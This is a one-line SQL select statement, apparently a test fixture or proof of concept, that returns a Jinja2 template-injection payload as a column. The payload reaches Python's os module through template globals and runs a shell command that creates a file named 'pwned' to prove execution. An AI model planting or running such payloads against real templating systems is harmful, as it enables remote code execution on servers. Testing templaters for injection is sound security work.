select
  '{{ self.__init__.__globals__.__builtins__.__import__("os").popen("touch pwned").read() }}' as who
